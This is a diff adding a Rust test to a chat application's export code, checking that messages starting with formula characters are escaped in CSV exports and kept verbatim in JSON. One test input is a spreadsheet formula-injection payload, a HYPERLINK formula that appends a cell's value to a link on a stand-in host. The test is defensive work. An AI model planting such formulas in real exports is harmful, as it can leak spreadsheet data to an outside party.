@@ -360,3 +360,62 @@ async fn a_hold_wins_over_retention_and_erasure_until_released() {
     }
     majlis_core::set_clock_offset_ms(0);
 }
+
+/// A colleague's message that starts like a spreadsheet formula (`=HYPERLINK(…)`, `+`, `-`,
+/// `@`) is exported to CSV as text a spreadsheet will not run (a leading `'`); the JSON export
+/// keeps every text exactly as sent.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_message_that_looks_like_a_formula_is_text_in_a_csv_export() {
+    use majlis_core::export::{Format, Scope, Spec};
+    let dir = tempfile::tempdir().unwrap();
+    let mut ps = org(dir.path(), &[]);
+    let a = Node::start(ps.remove(0), config(vec![])).await.unwrap();
+    let sent = [
+        r#"=HYPERLINK("http://x.test/?"&A1,"invoice")"#,
+        "+1 for lunch",
+        "-5 degrees outside",
+        "@bilal ok",
+        "2 + 2 = 4",
+    ];
+    for t in sent {
+        a.send("general", t).await.unwrap();
+    }
+    for format in [Format::Csv, Format::Json] {
+        a.export(Spec {
+            scope: Scope::Channel("general".into()),
+            from: None,
+            to: None,
+            format,
+            out: dir.path().join(format!("{format:?}")),
+        })
+        .await
+        .unwrap();
+    }
+    let mut csv = csv::Reader::from_path(dir.path().join("Csv/messages.csv")).unwrap();
+    let column = csv.headers().unwrap().iter().position(|h| h == "text");
+    let cells: Vec<String> = csv
+        .records()
+        .map(|r| r.unwrap()[column.unwrap()].to_string())
+        .collect();
+    assert_eq!(
+        cells,
+        [
+            r#"'=HYPERLINK("http://x.test/?"&A1,"invoice")"#,
+            "'+1 for lunch",
+            "'-5 degrees outside",
+            "'@bilal ok",
+            "2 + 2 = 4",
+        ]
+    );
+    let doc: serde_json::Value =
+        serde_json::from_slice(&std::fs::read(dir.path().join("Json/messages.json")).unwrap())
+            .unwrap();
+    let texts: Vec<&str> = doc["messages"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|m| m["text"].as_str().unwrap())
+        .collect();
+    assert_eq!(texts, sent);
+    a.shutdown().await.unwrap();
+}
